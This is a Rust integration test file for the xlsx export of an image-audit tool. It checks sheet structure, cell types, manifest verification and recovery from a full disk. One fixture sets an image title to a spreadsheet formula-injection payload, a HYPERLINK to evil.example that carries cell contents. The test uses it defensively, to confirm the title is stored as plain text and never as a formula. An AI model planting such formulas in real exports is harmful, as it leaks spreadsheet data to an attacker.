//! `audit.xlsx` (`--format xlsx`) with the real binary against the
//! simulator, read back with calamine (an independent reader): the four
//! sheets in order, their headers, string cells for formula-like titles,
//! number cells, the rows against `images.csv` and `changes.csv`, the
//! frozen header, autofilter and widths in the sheets' XML, and `verify`.

use std::collections::BTreeSet;
use std::io::BufReader;
use std::path::Path;

use calamine::{open_workbook, Data, Range, Reader, Xlsx};
use serde_json::{json, Value};
use vod_image_audit::sim::{Catalog, SimConfig};

use crate::common::{csv_rows, id_file, Audit, SimServer, TestCatalog, Workdir};

const SHEETS: [&str; 4] = ["Summary", "Blocked", "Changes", "All images"];
const SUMMARY_HEADER: &[&str] = &["section", "item", "label", "count", "blocked"];
const BLOCKED_HEADER: &[&str] =
    &["image_id", "title", "cate_id", "cate_name", "creation_time", "url", "reasons", "verdict_source", "disagreement"];

type Book = Xlsx<BufReader<std::fs::File>>;

fn open(path: &Path) -> Book {
    open_workbook(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

fn sheet(book: &mut Book, name: &str) -> Range<Data> {
    book.worksheet_range(name).unwrap_or_else(|e| panic!("sheet {name}: {e}"))
}

fn header(range: &Range<Data>) -> Vec<String> {
    range.rows().next().expect("a header row").iter().map(|c| c.to_string()).collect()
}

/// The header of a CSV file, as written.
fn csv_header(text: &str) -> Vec<String> {
    csv::Reader::from_reader(text.as_bytes()).headers().unwrap().iter().map(str::to_owned).collect()
}

/// The data rows of a sheet, keyed by its header, as calamine typed them.
fn rows(range: &Range<Data>) -> Vec<Vec<(String, Data)>> {
    let head = header(range);
    range.rows().skip(1).map(|r| head.iter().cloned().zip(r.iter().cloned()).collect()).collect()
}

fn cell<'a>(row: &'a [(String, Data)], column: &str) -> &'a Data {
    &row.iter().find(|(c, _)| c == column).unwrap_or_else(|| panic!("no column {column}")).1
}

/// One file of the xlsx zip, as text (the frozen pane, autofilter and
/// column widths are in the XML; calamine does not read them).
fn zip_entry(path: &Path, entry: &str) -> String {
    let out = std::process::Command::new("unzip").arg("-p").arg(path).arg(entry).output().expect("unzip runs");
    assert!(out.status.success(), "unzip -p {} {entry}: {}", path.display(), String::from_utf8_lossy(&out.stderr));
    String::from_utf8(out.stdout).unwrap()
}

#[test]
fn csv_json_xlsx_run_writes_a_workbook_that_matches_images_csv_and_verifies() {
    let cat = TestCatalog::generate(240, 41);
    let server = SimServer::start(cat.config());
    let wd = Workdir::new();
    wd.write("ids.csv", id_file(&cat.ids()));
    let out = Audit::new(&wd, &server).qps(500).args(["--format", "csv,json,xlsx"]).run();
    out.expect_code(0);

    let path = wd.path().join("out/audit.xlsx");
    let mut book = open(&path);
    assert_eq!(book.sheet_names(), SHEETS, "the four sheets in order\n{}", out.describe());
    for name in SHEETS {
        let formulas = book.worksheet_formula(name).unwrap();
        assert!(formulas.cells().all(|(_, _, f)| f.is_empty()), "a formula on {name}");
    }

    // All images: images.csv's header, rows and order.
    let images_csv = wd.read("out/images.csv");
    let csv = csv_rows(&images_csv);
    let images = sheet(&mut book, "All images");
    assert_eq!(header(&images), csv_header(&images_csv));
    let images = rows(&images);
    assert_eq!(images.len(), csv.len(), "one row per image, as images.csv");
    let ids = |rows: &[Vec<(String, Data)>]| rows.iter().map(|r| cell(r, "image_id").to_string()).collect::<Vec<_>>();
    assert_eq!(ids(&images), csv.iter().map(|r| r["image_id"].clone()).collect::<Vec<_>>());

    // Formula-like titles: the raw text, a string cell.
    let mut formula_titles = 0;
    let mut numbered = 0;
    for row in &images {
        let id = cell(row, "image_id").to_string();
        let info = &cat.by_id[&id];
        let title = info.title.as_deref().unwrap();
        if title.starts_with("=SUM(") {
            formula_titles += 1;
            assert_eq!(cell(row, "title"), &Data::String(title.to_owned()), "{id}: a string, not a formula");
        }
        match info.cate_id {
            Some(c) => {
                numbered += 1;
                assert_eq!(cell(row, "cate_id"), &Data::Float(c as f64), "{id}: cate_id a number");
            }
            None => assert_eq!(cell(row, "cate_id"), &Data::Empty, "{id}"),
        }
        assert!(matches!(cell(row, "attempts"), Data::Float(n) if *n >= 1.0), "{id}: attempts a number");
        assert!(matches!(cell(row, "image_id"), Data::String(_)), "{id}: the id a string");
    }
    assert!(formula_titles > 0 && numbered > 0, "the catalog has =SUM titles and categories");

    // Blocked: every blocked image of images.csv, none other.
    let blocked = sheet(&mut book, "Blocked");
    assert_eq!(header(&blocked), BLOCKED_HEADER);
    let want: Vec<String> = csv
        .iter()
        .filter(|r| r["outcome"] == "found" && r["verdict"] == "Blocked")
        .map(|r| r["image_id"].clone())
        .collect();
    let blocked = rows(&blocked);
    assert!(!want.is_empty(), "the catalog has blocked images");
    assert_eq!(ids(&blocked), want);
    for row in &blocked {
        assert_eq!(cell(row, "reasons"), &Data::Empty, "filled by a later change");
        let info = &cat.by_id[&cell(row, "image_id").to_string()];
        assert_eq!(cell(row, "title"), &Data::String(info.title.clone().unwrap()));
    }

    // Changes: not compared, so a note under the header.
    let changes = sheet(&mut book, "Changes");
    assert_eq!(
        header(&changes),
        csv_header("image_id,change,before,after,title,cate_id,cate_name,image_url,before_cate_id,before_cate_name,explained_by\n")
    );
    assert!(changes.get_value((1, 0)).unwrap().to_string().contains("not compared"));

    // Summary: the numbers of summary.json, as number cells.
    let summary = sheet(&mut book, "Summary");
    assert_eq!(header(&summary), SUMMARY_HEADER);
    let summary = rows(&summary);
    let count = |section: &str, item: &str| {
        let row = summary
            .iter()
            .find(|r| *cell(r, "section") == *section && *cell(r, "item") == *item)
            .unwrap_or_else(|| panic!("no {section} {item} row"));
        cell(row, "count").clone()
    };
    let json = wd.json("out/summary.json");
    for item in ["input_rows", "unique_ids", "found", "missing", "failed", "unaccounted"] {
        assert_eq!(count("ledger", item), Data::Float(json["ledger"][item].as_f64().unwrap()), "ledger {item}");
    }
    let blocked_n = json["by_audit_status"]["Blocked"].as_f64().unwrap();
    assert_eq!(count("audit_status", "Blocked"), Data::Float(blocked_n));
    let coverage = &json["audit_status_coverage"];
    assert_eq!(
        count("audit_status_coverage", "with_audit_status"),
        Data::Float(coverage["with_audit_status"].as_f64().unwrap())
    );
    assert_eq!(count("audit_status_coverage", "share"), Data::Float(coverage["share"].as_f64().unwrap()));
    assert_eq!(count("sheets", "All images"), Data::Float(csv.len() as f64));

    // The sheets' XML: header frozen, autofilter on, widths set, no formula.
    for n in 1..=4 {
        let xml = zip_entry(&path, &format!("xl/worksheets/sheet{n}.xml"));
        assert!(xml.contains("state=\"frozen\"") && xml.contains("ySplit=\"1\""), "sheet{n}: frozen header");
        assert!(xml.contains("<autoFilter ref=\"A1:"), "sheet{n}: autofilter");
        assert!(xml.contains("<cols>") && xml.contains("customWidth=\"1\""), "sheet{n}: widths");
        assert!(!xml.contains("<f>") && !xml.contains("<f "), "sheet{n}: a formula");
    }

    // Listed in the manifest with its digest: verify checks it.
    let manifest = wd.json("out/manifest.json");
    let listed: Vec<&Value> =
        manifest["files"].as_array().unwrap().iter().filter(|f| f["name"] == "audit.xlsx").collect();
    assert_eq!(listed.len(), 1, "{manifest}");
    assert_eq!(listed[0]["bytes"], json!(std::fs::metadata(&path).unwrap().len()));
    assert!(manifest["settings"]["formats"].as_array().unwrap().contains(&json!("xlsx")));
    let ok = wd.run(&["verify", "out"], &[], None);
    ok.expect_code(0);
    assert!(ok.stdout.contains("audit.xlsx: SHA-256 matches"), "{}", ok.describe());

    // An edited workbook fails verify.
    let mut bytes = std::fs::read(&path).unwrap();
    let mid = bytes.len() / 2;
    bytes[mid] ^= 0xff;
    std::fs::write(&path, bytes).unwrap();
    let bad = wd.run(&["verify", "out"], &[], None);
    bad.expect_code(6);
    assert!(bad.stdout.contains("audit.xlsx") || bad.stderr.contains("audit.xlsx"), "{}", bad.describe());
}

#[test]
fn xlsx_alone_writes_the_workbook_and_the_manifest() {
    let cat = TestCatalog::generate(60, 43);
    let server = SimServer::start(cat.config());
    let wd = Workdir::new();
    wd.write("ids.csv", id_file(&cat.ids()));
    let out = Audit::new(&wd, &server).qps(500).args(["--format", "xlsx"]).run();
    out.expect_code(0);

    let names: BTreeSet<String> = std::fs::read_dir(wd.path().join("out"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n != ".vod-image-audit.lock")
        .collect();
    assert_eq!(
        names,
        BTreeSet::from(["audit.xlsx", "manifest.json", "manifest.sha256"].map(String::from)),
        "{}",
        out.describe()
    );
    let manifest = wd.json("out/manifest.json");
    let files: Vec<&str> = manifest["files"].as_array().unwrap().iter().map(|f| f["name"].as_str().unwrap()).collect();
    assert_eq!(files, ["audit.xlsx"]);
    // verify takes a run whose only report is the workbook.
    let v = wd.run(&["verify", "out"], &[], None);
    v.expect_code(0);
    assert!(v.stdout.contains("ledger balances"), "{}", v.describe());

    let mut book = open(&wd.path().join("out/audit.xlsx"));
    assert_eq!(book.sheet_names(), SHEETS);
    let images = sheet(&mut book, "All images");
    let mut ids: Vec<String> = images.rows().skip(1).map(|r| r[0].to_string()).collect();
    let mut want = cat.ids();
    want.sort();
    assert_eq!(ids.len(), 60);
    ids.dedup();
    assert_eq!(ids, want, "every id once, sorted");
}

fn set(v: &mut Value, key: &str, value: Value) {
    v.as_object_mut().unwrap().insert(key.to_owned(), value);
}

#[test]
fn changes_sheet_holds_the_rows_of_changes_csv() {
    let mut one = TestCatalog::generate(80, 47).values;
    for v in one.iter_mut().take(3) {
        set(v, "AuditStatus", json!("Normal"));
        set(v, "Status", json!("Normal"));
    }
    let mut two = one.clone();
    set(&mut two[0], "AuditStatus", json!("Blocked"));
    set(&mut two[1], "Status", json!("UploadFail"));
    set(&mut two[2], "Title", json!("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"));
    set(&mut two[2], "AuditStatus", json!("Blocked"));
    let ids: Vec<String> = one.iter().map(|v| v["ImageId"].as_str().unwrap().to_owned()).collect();
    let wd = Workdir::new();
    wd.write("ids.csv", id_file(&ids));

    let night1 = SimServer::start(SimConfig::new(Catalog::from_values(one).unwrap()));
    Audit::new(&wd, &night1).out("reports/night1").qps(500).run().expect_code(0);
    let night2 = SimServer::start(SimConfig::new(Catalog::from_values(two).unwrap()));
    let out = Audit::new(&wd, &night2)
        .out("reports/night2")
        .qps(500)
        .args(["--compare-with", "auto", "--format", "csv,xlsx"])
        .run();
    out.expect_code(0);

    let changes_csv = wd.read("reports/night2/changes.csv");
    let csv = csv_rows(&changes_csv);
    assert!(csv.len() >= 3, "{changes_csv}");
    let mut book = open(&wd.path().join("reports/night2/audit.xlsx"));
    let changes = sheet(&mut book, "Changes");
    assert_eq!(header(&changes), csv_header(&changes_csv));
    let changes = rows(&changes);
    let key = |id: &Data, change: &Data| (id.to_string(), change.to_string());
    let got: Vec<(String, String)> = changes.iter().map(|r| key(cell(r, "image_id"), cell(r, "change"))).collect();
    let want: Vec<(String, String)> = csv.iter().map(|r| (r["image_id"].clone(), r["change"].clone())).collect();
    assert_eq!(got, want, "the rows of changes.csv, in order");
    let evil = changes.iter().find(|r| cell(r, "image_id").to_string() == ids[2]).unwrap();
    assert_eq!(
        cell(evil, "title"),
        &Data::String("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")".into()),
        "a string, kept as given (changes.csv defuses it with ')"
    );
    assert!(book.worksheet_formula("Changes").unwrap().cells().all(|(_, _, f)| f.is_empty()));

    let summary = sheet(&mut book, "Summary");
    let newly = summary.rows().find(|r| r[0] == "changes" && r[1] == "newly_blocked").expect("a changes row");
    let want = csv.iter().filter(|r| r["change"] == "newly_blocked").count();
    assert_eq!(newly[3], Data::Float(want as f64));
}

/// The writer streams each sheet to a temporary file and panics when a write
/// there fails; the run must still end as a disk error does. 300 ids under a
/// file size limit of 340 KiB (`ulimit -f`, standing in for a full disk;
/// SIGXFSZ ignored so a write past it fails with EFBIG): room for the
/// journal and images.jsonl (~270 KB), not for the All images sheet's data
/// (~420 KB). Then the rerun without the limit finishes the reports.
#[test]
fn a_full_disk_under_the_workbook_stops_resumably_and_the_rerun_writes_it() {
    let cat = TestCatalog::generate(300, 5);
    let server = SimServer::start(cat.config());
    let wd = Workdir::new();
    wd.write("ids.csv", id_file(&cat.ids()));
    let run = Audit::new(&wd, &server).qps(500).args(["--format", "json,xlsx"]);
    let script = "trap '' XFSZ; ulimit -f 340; exec \"$0\" \"$@\"";
    let out = run.run_in_shell(script, "(ulimit -f 340)");
    out.expect_code(4);
    assert!(out.stderr.contains("audit.xlsx"), "says which file\n{}", out.describe());
    assert!(
        out.stderr.contains("the run is resumable: free space and run the same command again"),
        "the disk-full advice, not a crash\n{}",
        out.describe()
    );
    let left: Vec<String> = std::fs::read_dir(wd.path().join("out"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        // The spill of unsettled outcomes is the run's own state, kept for the rerun.
        .filter(|n| n != ".unsettled.jsonl.tmp")
        .filter(|n| n.ends_with(".tmp") || n == "audit.xlsx" || n == "manifest.json")
        .collect();
    assert!(left.is_empty(), "no half report, no claim of completion: {left:?}");

    let out = run.run();
    out.expect_code(0);
    let mut book = open(&wd.path().join("out/audit.xlsx"));
    assert_eq!(sheet(&mut book, "All images").height(), 301, "{}", out.describe());
    wd.run(&["verify", "out"], &[], None).expect_code(0);
}
